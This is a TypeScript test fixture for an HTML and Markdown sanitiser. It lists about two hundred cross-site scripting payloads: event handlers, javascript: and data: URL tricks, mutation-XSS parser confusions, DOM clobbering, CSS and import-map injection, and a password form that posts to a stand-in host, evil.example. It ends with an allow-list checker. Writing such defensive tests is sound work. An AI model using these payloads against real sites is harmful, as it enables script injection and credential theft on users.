/**
 * Attacks, and careless pastes, for a rich text. Each would call `attacked()`, load something from elsewhere, or take
 * the page over, if it were not removed.
 */
export const hostileHtml: readonly string[] = [
  // Scripts
  "<script>attacked()</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>attacked()</scr</script>ipt>",
  "<script\x00>attacked()</script>",
  '<script type="module">import "https://evil.example/x.js"</script>',
  // Handlers
  "<img src=x onerror=attacked()>",
  "<img src=x onerror\n=\n'attacked()'>",
  "<img/src=x/onerror=attacked()>",
  '<img src=x alt=">" onerror=attacked()>',
  '<img src=x alt="a < b"ONERROR=attacked()>',
  '<img src="x` `"onerror="attacked()">',
  '"><img src=x onerror=attacked()>',
  "<body onload=attacked()>",
  "<div onmouseover='attacked()' onfocus=attacked() tabindex=0 autofocus>a</div>",
  "<p onpointerenter=attacked() onanimationstart=attacked()>a</p>",
  "<details open ontoggle=attacked()><summary>a</summary></details>",
  "<input autofocus onfocus=attacked()>",
  "<video><source onerror=attacked()></video>",
  "<audio src=x onerror=attacked()></audio>",
  "<marquee onstart=attacked()>a</marquee>",
  // Schemes
  '<a href="javascript:attacked()">a</a>',
  '<a href="JaVaScRiPt:attacked()">a</a>',
  '<a href=" &#14; javascript:attacked()">a</a>',
  '<a href="java&#x09;script:attacked()">a</a>',
  '<a href="java&NewLine;script&colon;attacked()">a</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;attacked()">a</a>',
  '<a href="\x01javascript:attacked()">a</a>',
  '<a href="vbscript:attacked()">a</a>',
  '<a href="data:text/html,<script>attacked()</script>">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hdHRhY2tlZCgpPC9zY3JpcHQ+">a</a>',
  '<a href="blob:https://evil.example/1">a</a>',
  '<a href="file:///etc/passwd">a</a>',
  '<a href="//evil.example">a</a>',
  '<a href="/\\evil.example">a</a>',
  '<a href="/&#9;/evil.example">a</a>',
  '<a href="intent://evil.example#Intent;end">a</a>',
  '<img src="javascript:attacked()">',
  '<img src="data:image/svg+xml,<svg onload=attacked()>">',
  '<img srcset="https://evil.example/x.png 1x" src="">',
  '<img src="//evil.example/x.png">',
  // Other languages in the page: SVG, MathML
  "<svg onload=attacked()></svg>",
  "<svg><script>attacked()</script></svg>",
  '<svg><a xlink:href="javascript:attacked()"><text y="20">a</text></a></svg>',
  '<svg><animate attributeName=href values="javascript:attacked()" /></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x><script>attacked()</script></svg>#x"></use></svg>',
  "<svg><foreignObject><img src=x onerror=attacked()></foreignObject></svg>",
  '<math><a xlink:href="javascript:attacked()">a</a></math>',
  '<math href="javascript:attacked()">a</math>',
  // Texts that change their meaning when they are parsed a second time
  '<svg></p><style><a id="</style><img src=1 onerror=attacked()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attacked()&gt;">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=attacked()>",
  '<noscript><p title="</noscript><img src=x onerror=attacked()>">a</p></noscript>',
  '<p title="</p><img src=x onerror=attacked()>">a</p>',
  '<xmp><p title="</xmp><img src=x onerror=attacked()>"></xmp>',
  '<textarea><img title="</textarea><img src=x onerror=attacked()>"></textarea>',
  '<title><img title="</title><img src=x onerror=attacked()>"></title>',
  "<!--><img src=x onerror=attacked()>-->",
  "<![CDATA[<img src=x onerror=attacked()>]]>",
  "<template><img src=x onerror=attacked()></template>",
  "<select><template><img src=x onerror=attacked()></template></select>",
  "<a href='a'><table><a href='javascript:attacked()'>a</a></table></a>",
  // Styles
  "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
  '<p style="position:fixed;inset:0;background:url(https://evil.example/x.png)">a</p>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<p class="fixed inset-0 z-50 bg-paper skip-link">a</p>',
  // Takes the page over
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>parent.attacked()</script>"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<form action="https://evil.example"><input name=password><button>OK</button></form>',
  '<button formaction="javascript:attacked()">a</button>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<p id="contenu" name="body">a</p><img name="getElementById" src="/x.png">',
  '<a id=defaultView href="/">a</a><a id=defaultView name=x href="/">a</a>',
  '<dialog open>a</dialog><portal src="https://evil.example"></portal>',
  "<p contenteditable accesskey=x slot=y part=z is=w data-x=1 aria-hidden=true>a</p>",
  "<custom-element onclick=attacked()>a</custom-element>",
  '<a href="https://exemple.fr" target="_blank" ping="https://evil.example" download>a</a>',
  // More that changes between two parsings: other namespaces, broken nesting, raw texts
  '<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=attacked() src=1>">',
  '<math><mi//xlink:href="data:x,<script>attacked()</script>">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=attacked()></annotation-xml></math>',
  '<svg><title><style><a title="</style><img src onerror=attacked()>"></title></svg>',
  '<svg><desc><noscript><a title="</noscript><img src onerror=attacked()>"></desc></svg>',
  '<form id="x"></form><button form="x" formaction="javascript:attacked()">a</button>',
  "<table><tr><td><form><table><form><img src=x onerror=attacked()></table></td></tr></table>",
  '<noembed><img title="</noembed><img src=x onerror=attacked()>"></noembed>',
  "<noframes><style></noframes><img src=x onerror=attacked()></style></noframes>",
  '<iframe><img title="</iframe><img src=x onerror=attacked()>"></iframe>',
  '<template><p title="</template><img src=x onerror=attacked()>"></template>',
  "<svg><template><style><a title='</style><img src=x onerror=attacked()>'></style></template></svg>",
  '<select><option><style></option></select><b title="</style><img src=x onerror=attacked()>">',
  "<option><p><select><svg><style><img src=x onerror=attacked()>",
  "<br/onmouseover=attacked()//>",
  "<p title=a\u2028onclick=attacked()>a</p>",
  "<img src=x\fonerror=attacked()>",
  "<img/src='x'/onerror='attacked()'",
  "<a href='https://exemple.fr' onclick='attacked()",
  // Names that scripts of the page look up
  '<a id="root" href="/">a</a><p id="contenu-de-la-page">{}</p><p id="faces">a</p>',
  '<form name="cookie"><input name="attributes"><input name="parentNode"></form>',
  '<img name="trustedTypes"><img name="navigator"><img id="location" src="/x.png">',
  '<p data-text="x" data-page data-built data-entry="https://evil.example/x.js">a</p>',
  // Pictures and links in other ways
  '<picture><source srcset="https://evil.example/x.png"><img src="/x.png"></picture>',
  '<img src="/x.png" srcset="javascript:attacked() 1x" sizes="100vw" usemap="#m" ismap lowsrc="//evil.example">',
  '<map name=m><area href="javascript:attacked()" shape=default></map>',
  '<a href="https://exemple.fr" xlink:href="javascript:attacked()" xml:base="https://evil.example">a</a>',
  '<a href="\u0000javascript:attacked()">a</a><a href="jav&#0;ascript:attacked()">a</a>',
  '<a href="javascript&colon;attacked()">a</a><a href="javascript&#58attacked()">a</a>',
  '<a href="https:evil.example">a</a><a href="https:\\\\evil.example">a</a><a href="///evil.example">a</a>',
  '<a href="view-source:https://evil.example">a</a><a href="ms-settings:x">a</a><a href="filesystem:https://evil.example/x">a</a>',
  '<blockquote cite="javascript:attacked()">a</blockquote><q cite="https://evil.example">a</q>',
  '<table background="https://evil.example/x.png"><td background="javascript:attacked()">a</table>',
  "<p style='width:expression(attacked())'>a</p><p style=\"behavior:url(#default#x)\">a</p>",
  '<link rel="dns-prefetch" href="//evil.example"><link rel="modulepreload" href="https://evil.example/x.js">',
  '<script type="application/json" id="contenu-de-la-page">{"path":"/"}</script>',
  '<script type="importmap">{"imports":{"/assets/":"https://evil.example/"}}</script>',
  '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example"]}]}</script>',
  '<meta http-equiv="content-security-policy" content="script-src *">',
  '<frameset><frame src="javascript:attacked()"></frameset>',
  '<input type="image" src="x" onerror="attacked()"><isindex action="javascript:attacked()">',
  "<slot name=x><p popover onbeforetoggle=attacked()>a</p></slot>",
  '<div><template shadowrootmode="open"><img src=x onerror=attacked()></template></div>',
];

/** The same without a tag: Markdown-like markup, whose addresses and colours become HTML. */
export const hostileMarkup: readonly string[] = [
  "[a](javascript:attacked())",
  "[a](JaVaScRiPt:attacked\u2028())",
  "[a](data:text/html;base64,PHNjcmlwdD5hdHRhY2tlZCgpPC9zY3JpcHQ+)",
  '[a](https://exemple.fr/"onmouseover="attacked\u0028))',
  "[a](//evil.example)",
  "[[a](https://exemple.fr)](javascript:attacked())",
  '![a" onerror="attacked()](x)',
  "![a](javascript:attacked())",
  "![a](//evil.example/x.png)",
  '{color:red" onclick="attacked()}a{/color}',
  "{color:red;background:url(https://evil.example/x.png)}a{/color}",
  "{color:constructor}a{/color} {color:__proto__}a{/color}",
  "**a *b** c* __d__ {color:red}**e{/color}**",
  '# a" id="root',
  "> - > # &lt;img src=x onerror=attacked()&gt;",
];

/** Text that must be shown as it is, and would end the context in which it stands. */
export const hostileTexts: readonly string[] = [
  "</script><script>attacked()</script>",
  "<!--<script>attacked()</script>",
  "</title><img src=x onerror=attacked()>",
  "</textarea></style></noscript></template><svg onload=attacked()>",
  "]]><script xmlns='http://www.w3.org/1999/xhtml'>attacked()</script><![CDATA[",
  "--><img src=x onerror=attacked()><!--",
  `"'><img src=x onerror=attacked()>`,
  `" autofocus onfocus="attacked()" x="`,
  "' onmouseover='attacked()",
  '"}</script><img src=x onerror=attacked()>{"',
  "a\u2028attacked()\u2029b",
  "&lt;img src=x onerror=attacked()&gt; &amp;lt;script&amp;gt;",
  "{{constructor.constructor('attacked()')()}} ${attacked()} <%= attacked() %>",
  "javascript:attacked()",
  "https://evil.example www.evil.example evil@evil.example",
  "__proto__",
  "constructor",
  "\u202Efdp.exe\u2066 a",
  '=HYPERLINK("https://evil.example")',
  '<p style="color:red">Chargement…</p><meta name=a><link rel=b>',
  "Chargement de la page",
  "$& $1 $` :splat * %s %2F ..%2f..",
];

/** Addresses to which no link may lead, or from which no page may load. */
export const hostileAddresses: readonly string[] = [
  "javascript:attacked()",
  "JaVaScRiPt:attacked()//https://exemple.fr",
  " \u0001javascript:attacked()",
  "java\tscript:attacked()",
  "java\nscript:attacked()",
  "java\r\nscript:attacked()",
  "javascript\u003Aattacked()",
  "&#106;avascript:attacked()",
  "javascript&colon;attacked()",
  "vbscript:attacked()",
  "data:text/html,<script>attacked()</script>",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='attacked()'/>",
  "blob:https://evil.example/1",
  "file:///etc/passwd",
  "//evil.example",
  "///evil.example",
  "/\\evil.example",
  "\\\\evil.example",
  "/\t/evil.example",
  "\t//evil.example",
  "https:evil.example",
  "https:\\\\evil.example",
  "view-source:https://exemple.fr",
  "intent://evil.example#Intent;end",
  '"><img src=x onerror=attacked()>',
  'https://exemple.fr/" onmouseover="attacked()',
];

/** Written independently of the sanitiser: the allowed elements and their attributes. */
const HARMLESS = new Set(
  (
    "a abbr b blockquote br caption cite code dd del div dl dt em figcaption figure h2 h3 h4 h5 h6 hr " +
    "i img ins kbd li mark ol p pre q s small span strong sub sup table tbody td tfoot th thead tr u ul"
  ).split(" "),
);
const ATTRIBUTES: Readonly<Record<string, RegExp>> = {
  href: /^(?:https?:\/\/[^/]|mailto:\S|tel:[+\d]|\/(?![/\\\t\n\r])|#)/iu,
  src: /^(?:https?:\/\/[^/]|blob:|\/(?![/\\\t\n\r]))/iu,
  class: /^(?:table-frame|(?:(?:color|background|align)-[a-z]+ ?)+)$/u,
  rel: /^noopener noreferrer$/u,
  loading: /^lazy$/u,
  decoding: /^async$/u,
  role: /^region$/u,
  tabindex: /^0$/u,
  "aria-label": /./u,
};
const WORDS = new Set("alt title width height colspan rowspan scope start lang".split(" "));

/** The forbidden parts of HTML, parsed as a browser does: in a page, or in jsdom. */
export function dangersIn(html: string, reader: Document = document): string[] {
  const read = reader.createElement("div");
  read.innerHTML = html;
  return Array.from(read.querySelectorAll("*")).flatMap((element) => [
    ...(HARMLESS.has(element.localName) && element.namespaceURI === "http://www.w3.org/1999/xhtml"
      ? []
      : [element.outerHTML]),
    ...Array.from(element.attributes)
      .filter(({ name, value }) => !WORDS.has(name) && !ATTRIBUTES[name]?.test(value))
      .map(({ name, value }) => `${element.localName} ${name}=${value}`),
  ]);
}
